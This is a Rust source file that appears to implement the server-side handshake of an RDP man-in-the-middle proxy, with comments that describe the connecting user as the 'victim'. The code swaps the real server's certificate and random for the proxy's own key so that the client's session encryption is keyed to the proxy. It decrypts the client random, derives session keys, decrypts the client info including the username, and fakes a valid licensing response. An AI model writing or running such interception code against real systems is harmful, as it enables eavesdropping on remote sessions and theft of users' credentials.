use core::mem;
use std::collections::HashSet;

use spyglass_connector::{
    encode_send_data_indication, general_err, reason_err, ConnectorError, ConnectorErrorExt as _, ConnectorResult,
    SecuritySession, Sequence, State, Written,
};
use spyglass_core::{decode, encode_vec, ReadCursor, WriteBuf};
use spyglass_crypto::{
    proprietary_certificate, KeyPerspective, KeyStrength, RdpEncryption, RsaPrivateKey, SessionKeys, RANDOM_SIZE,
};
use spyglass_pdu::gcc::{ClientBlocks, EncryptionLevel, EncryptionMethod, ServerBlocks, ServerSecurityData};
use spyglass_pdu::rdp::license::{LicensePdu, LicensingErrorMessage};
use spyglass_pdu::rdp::{ClientInfo, SecurityExchangePdu, SecurityHeader, SecurityHeaderFlags};
use spyglass_pdu::x224::X224;
use spyglass_pdu::{encode_x224_packet, mcs, nego, PduHint};

/// Material the proxy presents to the intercepted client.
pub struct AcceptorConfig {
    /// The proxy's own server random for the legacy handshake.
    pub server_random: [u8; RANDOM_SIZE],
    /// RSA key the victim encrypts its client random against.
    pub rsa_key: RsaPrivateKey,
}

impl core::fmt::Debug for AcceptorConfig {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        f.debug_struct("AcceptorConfig").finish_non_exhaustive()
    }
}

/// Everything the relay needs once the inbound handshake finished.
#[derive(Debug)]
pub struct AcceptorResult {
    pub client_blocks: ClientBlocks,
    pub io_channel_id: u16,
    pub user_channel_id: u16,
    pub joined: Vec<u16>,
    pub client_info: ClientInfo,
    pub selected_protocol: nego::SecurityProtocol,
    pub security: SecuritySession,
}

#[derive(Debug, Copy, Clone, PartialEq, Eq)]
enum SecurityMode {
    None,
    Tls,
    Legacy(KeyStrength),
}

enum ConfirmAction {
    Response(nego::SecurityProtocol),
    Failure(nego::FailureCode),
}

#[derive(Default)]
#[non_exhaustive]
pub enum AcceptorState {
    #[default]
    Consumed,

    WaitConnectionRequest,
    PendingProtocolSelection {
        request: Box<nego::ConnectionRequest>,
    },
    SendConnectionConfirm {
        action: ConfirmAction,
    },
    SecurityUpgrade {
        selected_protocol: nego::SecurityProtocol,
    },
    WaitConnectInitial {
        selected_protocol: nego::SecurityProtocol,
    },
    PendingServerBlocks {
        selected_protocol: nego::SecurityProtocol,
        client_blocks: Box<ClientBlocks>,
    },
    SendConnectResponse {
        selected_protocol: nego::SecurityProtocol,
        client_blocks: Box<ClientBlocks>,
        server_blocks: Box<ServerBlocks>,
        mode: SecurityMode,
        user_channel_id: u16,
    },
    WaitAttachUser {
        selected_protocol: nego::SecurityProtocol,
        client_blocks: Box<ClientBlocks>,
        io_channel_id: u16,
        expected_channels: HashSet<u16>,
        mode: SecurityMode,
        user_channel_id: u16,
    },
    WaitChannelJoins {
        selected_protocol: nego::SecurityProtocol,
        client_blocks: Box<ClientBlocks>,
        io_channel_id: u16,
        remaining: HashSet<u16>,
        joined: Vec<u16>,
        mode: SecurityMode,
        user_channel_id: u16,
    },
    WaitSecurityExchange {
        selected_protocol: nego::SecurityProtocol,
        client_blocks: Box<ClientBlocks>,
        io_channel_id: u16,
        joined: Vec<u16>,
        strength: KeyStrength,
        user_channel_id: u16,
    },
    WaitClientInfo {
        selected_protocol: nego::SecurityProtocol,
        client_blocks: Box<ClientBlocks>,
        io_channel_id: u16,
        joined: Vec<u16>,
        mode: SecurityMode,
        user_channel_id: u16,
    },
    SendLicenseError {
        selected_protocol: nego::SecurityProtocol,
        client_blocks: Box<ClientBlocks>,
        io_channel_id: u16,
        joined: Vec<u16>,
        mode: SecurityMode,
        user_channel_id: u16,
        client_info: Box<ClientInfo>,
    },
    Active {
        result: Box<AcceptorResult>,
    },
    Failed,
}

impl core::fmt::Debug for AcceptorState {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        f.write_str(State::name(self))
    }
}

impl State for AcceptorState {
    fn name(&self) -> &'static str {
        match self {
            Self::Consumed => "Consumed",
            Self::WaitConnectionRequest => "WaitConnectionRequest",
            Self::PendingProtocolSelection { .. } => "PendingProtocolSelection",
            Self::SendConnectionConfirm { .. } => "SendConnectionConfirm",
            Self::SecurityUpgrade { .. } => "SecurityUpgrade",
            Self::WaitConnectInitial { .. } => "WaitConnectInitial",
            Self::PendingServerBlocks { .. } => "PendingServerBlocks",
            Self::SendConnectResponse { .. } => "SendConnectResponse",
            Self::WaitAttachUser { .. } => "WaitAttachUser",
            Self::WaitChannelJoins { .. } => "WaitChannelJoins",
            Self::WaitSecurityExchange { .. } => "WaitSecurityExchange",
            Self::WaitClientInfo { .. } => "WaitClientInfo",
            Self::SendLicenseError { .. } => "SendLicenseError",
            Self::Active { .. } => "Active",
            Self::Failed => "Failed",
        }
    }

    fn is_terminal(&self) -> bool {
        matches!(self, Self::Active { .. } | Self::Failed)
    }

    fn as_any(&self) -> &dyn core::any::Any {
        self
    }
}

/// Server-side connection sequence facing the intercepted client.
///
/// Mirrors the connector state by state; the `Pending*` states are pause
/// points where the coupler injects data learned from the target side.
pub struct Acceptor {
    pub config: AcceptorConfig,
    pub state: AcceptorState,
    connection_request: Option<nego::ConnectionRequest>,
    encryption: Option<RdpEncryption>,
    client_random: Option<Vec<u8>>,
}

impl Acceptor {
    pub fn new(config: AcceptorConfig) -> Self {
        Self {
            config,
            state: AcceptorState::WaitConnectionRequest,
            connection_request: None,
            encryption: None,
            client_random: None,
        }
    }

    /// The victim's negotiation request, available once received.
    pub fn connection_request(&self) -> Option<&nego::ConnectionRequest> {
        self.connection_request.as_ref()
    }

    /// True while paused for the coupler to pick the protocol to confirm.
    pub fn should_select_protocol(&self) -> bool {
        matches!(self.state, AcceptorState::PendingProtocolSelection { .. })
    }

    pub fn provide_selected_protocol(&mut self, protocol: nego::SecurityProtocol) -> ConnectorResult<()> {
        match mem::take(&mut self.state) {
            AcceptorState::PendingProtocolSelection { .. } => {
                self.state = AcceptorState::SendConnectionConfirm {
                    action: ConfirmAction::Response(protocol),
                };
                Ok(())
            }
            other => {
                self.state = other;
                Err(general_err!("protocol selected in an unexpected state"))
            }
        }
    }

    /// Propagates a negotiation failure from the target to the victim.
    pub fn provide_negotiation_failure(&mut self, code: nego::FailureCode) -> ConnectorResult<()> {
        match mem::take(&mut self.state) {
            AcceptorState::PendingProtocolSelection { .. } => {
                self.state = AcceptorState::SendConnectionConfirm {
                    action: ConfirmAction::Failure(code),
                };
                Ok(())
            }
            other => {
                self.state = other;
                Err(general_err!("negotiation failure provided in an unexpected state"))
            }
        }
    }

    /// True while the sequence is paused for the victim-side TLS accept.
    pub fn should_perform_security_upgrade(&self) -> bool {
        matches!(self.state, AcceptorState::SecurityUpgrade { .. })
    }

    pub fn mark_security_upgrade_as_done(&mut self) -> ConnectorResult<()> {
        debug_assert!(self.should_perform_security_upgrade());
        let written = self.step(&[], &mut WriteBuf::new())?;
        debug_assert!(written.is_nothing());
        Ok(())
    }

    /// True while paused for the target's settings blocks.
    pub fn should_provide_server_blocks(&self) -> bool {
        matches!(self.state, AcceptorState::PendingServerBlocks { .. })
    }

    /// The victim's settings blocks, once Connect-Initial was received.
    pub fn client_blocks(&self) -> Option<&ClientBlocks> {
        match &self.state {
            AcceptorState::PendingServerBlocks { client_blocks, .. } => Some(client_blocks),
            _ => None,
        }
    }

    /// Injects the target's settings blocks. The SC_SECURITY block is
    /// replaced with the proxy's own random and certificate so the victim
    /// keys against the proxy, never against the real server.
    pub fn provide_server_blocks(&mut self, mut server_blocks: ServerBlocks) -> ConnectorResult<()> {
        match mem::take(&mut self.state) {
            AcceptorState::PendingServerBlocks {
                selected_protocol,
                client_blocks,
            } => {
                let mode = if selected_protocol.intersects(nego::SecurityProtocol::SSL | nego::SecurityProtocol::HYBRID)
                {
                    server_blocks.security = ServerSecurityData::no_security();
                    SecurityMode::Tls
                } else {
                    let method = effective_method(server_blocks.security.encryption_method);

                    match method {
                        None => {
                            server_blocks.security = ServerSecurityData::no_security();
                            SecurityMode::None
                        }
                        Some((method, strength)) => {
                            server_blocks.security = ServerSecurityData {
                                encryption_method: method,
                                encryption_level: EncryptionLevel::ClientCompatible,
                                server_random: Some(self.config.server_random),
                                server_cert: proprietary_certificate(&self.config.rsa_key.public_key()),
                            };
                            SecurityMode::Legacy(strength)
                        }
                    }
                };

                let user_channel_id = server_blocks
                    .channel_ids()
                    .iter()
                    .copied()
                    .chain([server_blocks.io_channel_id()])
                    .max()
                    .unwrap_or(1002)
                    + 1;

                self.state = AcceptorState::SendConnectResponse {
                    selected_protocol,
                    client_blocks,
                    server_blocks: Box::new(server_blocks),
                    mode,
                    user_channel_id,
                };
                Ok(())
            }
            other => {
                self.state = other;
                Err(general_err!("server blocks provided in an unexpected state"))
            }
        }
    }

    /// The victim's client random, decrypted during the security exchange.
    pub fn client_random(&self) -> Option<&[u8]> {
        self.client_random.as_deref()
    }

    /// Takes the finished handshake out of a terminal acceptor.
    pub fn take_result(&mut self) -> Option<AcceptorResult> {
        match mem::take(&mut self.state) {
            AcceptorState::Active { result } => Some(*result),
            other => {
                self.state = other;
                None
            }
        }
    }
}

/// Picks a concrete method out of the set the target advertised.
fn effective_method(methods: EncryptionMethod) -> Option<(EncryptionMethod, KeyStrength)> {
    if methods.contains(EncryptionMethod::BIT_128) {
        Some((EncryptionMethod::BIT_128, KeyStrength::Bits128))
    } else if methods.contains(EncryptionMethod::BIT_56) {
        Some((EncryptionMethod::BIT_56, KeyStrength::Bits56))
    } else if methods.contains(EncryptionMethod::BIT_40) {
        Some((EncryptionMethod::BIT_40, KeyStrength::Bits40))
    } else {
        None
    }
}

impl Sequence for Acceptor {
    fn next_pdu_hint(&self) -> Option<&dyn PduHint> {
        match &self.state {
            AcceptorState::WaitConnectionRequest
            | AcceptorState::WaitConnectInitial { .. }
            | AcceptorState::WaitAttachUser { .. }
            | AcceptorState::WaitChannelJoins { .. }
            | AcceptorState::WaitSecurityExchange { .. }
            | AcceptorState::WaitClientInfo { .. } => Some(&spyglass_pdu::X224_HINT),
            _ => None,
        }
    }

    fn state(&self) -> &dyn State {
        &self.state
    }

    fn step(&mut self, input: &[u8], output: &mut WriteBuf) -> ConnectorResult<Written> {
        let (written, next_state) = match mem::take(&mut self.state) {
            AcceptorState::Consumed => return Err(general_err!("acceptor sequence state is consumed")),

            AcceptorState::WaitConnectionRequest => {
                let request = decode::<X224<nego::ConnectionRequest>>(input)
                    .map_err(ConnectorError::decode)?
                    .0;

                debug!(message = ?request, "Received");

                self.connection_request = Some(request.clone());

                (
                    Written::Nothing,
                    AcceptorState::PendingProtocolSelection {
                        request: Box::new(request),
                    },
                )
            }

            AcceptorState::PendingProtocolSelection { .. } => {
                return Err(general_err!(
                    "stepped while waiting for protocol selection (use provide_selected_protocol)"
                ))
            }

            AcceptorState::SendConnectionConfirm { action } => match action {
                ConfirmAction::Response(selected_protocol) => {
                    let confirm = nego::ConnectionConfirm::Response {
                        flags: nego::ResponseFlags::empty(),
                        protocol: selected_protocol,
                    };

                    debug!(message = ?confirm, "Send");

                    let written = spyglass_core::encode_buf(&X224(confirm), output).map_err(ConnectorError::encode)?;

                    let next_state = if selected_protocol.intersects(nego::SecurityProtocol::SSL) {
                        AcceptorState::SecurityUpgrade { selected_protocol }
                    } else {
                        AcceptorState::WaitConnectInitial { selected_protocol }
                    };

                    (Written::from_size(written)?, next_state)
                }
                ConfirmAction::Failure(code) => {
                    let confirm = nego::ConnectionConfirm::Failure { code };

                    debug!(message = ?confirm, "Send negotiation failure");

                    let written = spyglass_core::encode_buf(&X224(confirm), output).map_err(ConnectorError::encode)?;

                    (Written::from_size(written)?, AcceptorState::Failed)
                }
            },

            AcceptorState::SecurityUpgrade { selected_protocol } => (
                Written::Nothing,
                AcceptorState::WaitConnectInitial { selected_protocol },
            ),

            AcceptorState::WaitConnectInitial { selected_protocol } => {
                let x224_payload = decode::<X224<spyglass_pdu::x224::X224Data<'_>>>(input)
                    .map_err(ConnectorError::decode)?
                    .0;
                let connect_initial =
                    decode::<mcs::ConnectInitial>(x224_payload.data.as_ref()).map_err(ConnectorError::decode)?;

                debug!(message = ?connect_initial, "Received");

                let client_blocks = connect_initial.conference_create_request.gcc_blocks;

                (
                    Written::Nothing,
                    AcceptorState::PendingServerBlocks {
                        selected_protocol,
                        client_blocks: Box::new(client_blocks),
                    },
                )
            }

            AcceptorState::PendingServerBlocks { .. } => {
                return Err(general_err!(
                    "stepped while waiting for server blocks (use provide_server_blocks)"
                ))
            }

            AcceptorState::SendConnectResponse {
                selected_protocol,
                client_blocks,
                server_blocks,
                mode,
                user_channel_id,
            } => {
                let io_channel_id = server_blocks.io_channel_id();
                let mut expected_channels: HashSet<u16> = server_blocks.channel_ids().into_iter().collect();
                expected_channels.insert(io_channel_id);

                let connect_response = mcs::ConnectResponse {
                    conference_create_response: spyglass_pdu::gcc::ConferenceCreateResponse {
                        user_id: user_channel_id,
                        gcc_blocks: *server_blocks,
                    },
                    called_connect_id: 0,
                    domain_parameters: mcs::DomainParameters::target(),
                };

                debug!(message = ?connect_response, "Send");

                let written = encode_x224_packet(&connect_response, output).map_err(ConnectorError::encode)?;

                (
                    Written::from_size(written)?,
                    AcceptorState::WaitAttachUser {
                        selected_protocol,
                        client_blocks,
                        io_channel_id,
                        expected_channels,
                        mode,
                        user_channel_id,
                    },
                )
            }

            AcceptorState::WaitAttachUser {
                selected_protocol,
                client_blocks,
                io_channel_id,
                expected_channels,
                mode,
                user_channel_id,
            } => {
                let message = decode::<X224<mcs::McsMessage<'_>>>(input).map_err(ConnectorError::decode)?.0;

                match message {
                    // The domain erection carries nothing we act on.
                    mcs::McsMessage::ErectDomainRequest(msg) => {
                        debug!(message = ?msg, "Received");

                        (
                            Written::Nothing,
                            AcceptorState::WaitAttachUser {
                                selected_protocol,
                                client_blocks,
                                io_channel_id,
                                expected_channels,
                                mode,
                                user_channel_id,
                            },
                        )
                    }
                    mcs::McsMessage::AttachUserRequest(msg) => {
                        debug!(message = ?msg, "Received");

                        let confirm = mcs::AttachUserConfirm {
                            result: 0,
                            initiator_id: user_channel_id,
                        };

                        debug!(message = ?confirm, "Send");

                        let written =
                            spyglass_core::encode_buf(&X224(confirm), output).map_err(ConnectorError::encode)?;

                        (
                            Written::from_size(written)?,
                            AcceptorState::WaitChannelJoins {
                                selected_protocol,
                                client_blocks,
                                io_channel_id,
                                remaining: expected_channels,
                                joined: Vec::new(),
                                mode,
                                user_channel_id,
                            },
                        )
                    }
                    other => {
                        return Err(reason_err!(
                            "WaitAttachUser",
                            "unexpected MCS message: {}",
                            spyglass_pdu::mcs::McsPdu::name(&other),
                        ))
                    }
                }
            }

            AcceptorState::WaitChannelJoins {
                selected_protocol,
                client_blocks,
                io_channel_id,
                mut remaining,
                mut joined,
                mode,
                user_channel_id,
            } => {
                let message = decode::<X224<mcs::McsMessage<'_>>>(input).map_err(ConnectorError::decode)?.0;

                let request = match message {
                    mcs::McsMessage::ChannelJoinRequest(msg) => msg,
                    other => {
                        return Err(reason_err!(
                            "WaitChannelJoins",
                            "unexpected MCS message: {}",
                            spyglass_pdu::mcs::McsPdu::name(&other),
                        ))
                    }
                };

                debug!(message = ?request, "Received");

                let confirm = mcs::ChannelJoinConfirm {
                    result: 0,
                    initiator_id: user_channel_id,
                    requested_channel_id: request.channel_id,
                    channel_id: request.channel_id,
                };

                debug!(message = ?confirm, "Send");

                let written = spyglass_core::encode_buf(&X224(confirm), output).map_err(ConnectorError::encode)?;

                remaining.remove(&request.channel_id);
                joined.push(request.channel_id);

                let next_state = if remaining.is_empty() {
                    match mode {
                        SecurityMode::Legacy(strength) => AcceptorState::WaitSecurityExchange {
                            selected_protocol,
                            client_blocks,
                            io_channel_id,
                            joined,
                            strength,
                            user_channel_id,
                        },
                        _ => AcceptorState::WaitClientInfo {
                            selected_protocol,
                            client_blocks,
                            io_channel_id,
                            joined,
                            mode,
                            user_channel_id,
                        },
                    }
                } else {
                    AcceptorState::WaitChannelJoins {
                        selected_protocol,
                        client_blocks,
                        io_channel_id,
                        remaining,
                        joined,
                        mode,
                        user_channel_id,
                    }
                };

                (Written::from_size(written)?, next_state)
            }

            AcceptorState::WaitSecurityExchange {
                selected_protocol,
                client_blocks,
                io_channel_id,
                joined,
                strength,
                user_channel_id,
            } => {
                let request = expect_send_data_request(input)?;

                let mut payload = ReadCursor::new(request.user_data.as_ref());
                let security_header =
                    spyglass_core::decode_cursor::<SecurityHeader>(&mut payload).map_err(ConnectorError::decode)?;

                if !security_header.flags.contains(SecurityHeaderFlags::EXCHANGE_PKT) {
                    return Err(general_err!("expected the security exchange PDU"));
                }

                let exchange = spyglass_core::decode_cursor::<SecurityExchangePdu>(&mut payload)
                    .map_err(ConnectorError::decode)?;

                let client_random = self
                    .config
                    .rsa_key
                    .decrypt(&exchange.encrypted_client_random, RANDOM_SIZE)
                    .map_err(ConnectorError::crypto)?;

                debug!("Decrypted the victim client random");

                let mut client_random_fixed = [0u8; RANDOM_SIZE];
                client_random_fixed.copy_from_slice(&client_random);

                let keys = SessionKeys::derive(
                    &client_random_fixed,
                    &self.config.server_random,
                    strength,
                    KeyPerspective::Server,
                );
                self.encryption = Some(RdpEncryption::new(keys, strength));
                self.client_random = Some(client_random);

                (
                    Written::Nothing,
                    AcceptorState::WaitClientInfo {
                        selected_protocol,
                        client_blocks,
                        io_channel_id,
                        joined,
                        mode: SecurityMode::Legacy(strength),
                        user_channel_id,
                    },
                )
            }

            AcceptorState::WaitClientInfo {
                selected_protocol,
                client_blocks,
                io_channel_id,
                joined,
                mode,
                user_channel_id,
            } => {
                let request = expect_send_data_request(input)?;

                let mut payload = ReadCursor::new(request.user_data.as_ref());
                let security_header =
                    spyglass_core::decode_cursor::<SecurityHeader>(&mut payload).map_err(ConnectorError::decode)?;

                if !security_header.flags.contains(SecurityHeaderFlags::INFO_PKT) {
                    return Err(general_err!("expected the client info PDU"));
                }

                let plaintext = if security_header.flags.contains(SecurityHeaderFlags::ENCRYPT) {
                    let encryption = self
                        .encryption
                        .as_mut()
                        .ok_or_else(|| general_err!("encrypted client info without encryption state"))?;

                    let mut signature = [0u8; spyglass_crypto::MAC_SIGNATURE_SIZE];
                    if payload.len() < signature.len() {
                        return Err(general_err!("encrypted client info too short"));
                    }
                    let signature_len = signature.len();
                    signature.copy_from_slice(payload.read_slice(signature_len));
                    encryption
                        .decrypt_verify(&signature, payload.read_remaining())
                        .map_err(ConnectorError::crypto)?
                } else {
                    payload.read_remaining().to_vec()
                };

                let client_info = decode::<ClientInfo>(&plaintext).map_err(ConnectorError::decode)?;

                debug!(username = %client_info.username, "Received Client Info");

                (
                    Written::Nothing,
                    AcceptorState::SendLicenseError {
                        selected_protocol,
                        client_blocks,
                        io_channel_id,
                        joined,
                        mode,
                        user_channel_id,
                        client_info: Box::new(client_info),
                    },
                )
            }

            AcceptorState::SendLicenseError {
                selected_protocol,
                client_blocks,
                io_channel_id,
                joined,
                mode,
                user_channel_id,
                client_info,
            } => {
                // The standard shortcut: report a valid client so the victim
                // proceeds without a real license exchange.
                let license = LicensePdu::error_alert(&LicensingErrorMessage::valid_client())
                    .map_err(ConnectorError::encode)?;

                let mut user_data = encode_vec(&SecurityHeader {
                    flags: SecurityHeaderFlags::LICENSE_PKT,
                })
                .map_err(ConnectorError::encode)?;
                user_data.extend_from_slice(&encode_vec(&license).map_err(ConnectorError::encode)?);

                debug!("Send valid-client licensing error");

                let written = encode_send_data_indication(user_channel_id, io_channel_id, user_data, output)?;

                let security = match mode {
                    SecurityMode::None => SecuritySession::None,
                    // Licensing data was just sent: from here on the TLS
                    // passthrough stops expecting security headers.
                    SecurityMode::Tls => SecuritySession::Tls {
                        security_header_expected: false,
                    },
                    SecurityMode::Legacy(_) => SecuritySession::Legacy {
                        encryption: self
                            .encryption
                            .take()
                            .ok_or_else(|| general_err!("legacy mode without encryption state"))?,
                    },
                };

                let result = AcceptorResult {
                    client_blocks: *client_blocks,
                    io_channel_id,
                    user_channel_id,
                    joined,
                    client_info: *client_info,
                    selected_protocol,
                    security,
                };

                (
                    Written::from_size(written)?,
                    AcceptorState::Active {
                        result: Box::new(result),
                    },
                )
            }

            AcceptorState::Active { .. } => return Err(general_err!("acceptor already active")),

            AcceptorState::Failed => return Err(general_err!("acceptor already failed")),
        };

        self.state = next_state;

        Ok(written)
    }
}

fn expect_send_data_request(input: &[u8]) -> ConnectorResult<mcs::SendDataRequest<'_>> {
    let message = decode::<X224<mcs::McsMessage<'_>>>(input).map_err(ConnectorError::decode)?.0;

    match message {
        mcs::McsMessage::SendDataRequest(msg) => Ok(msg),
        mcs::McsMessage::DisconnectProviderUltimatum(msg) => Err(reason_err!(
            "SendDataRequest",
            "client disconnected: {}",
            msg.reason,
        )),
        other => Err(reason_err!(
            "SendDataRequest",
            "unexpected MCS message: {}",
            spyglass_pdu::mcs::McsPdu::name(&other),
        )),
    }
}
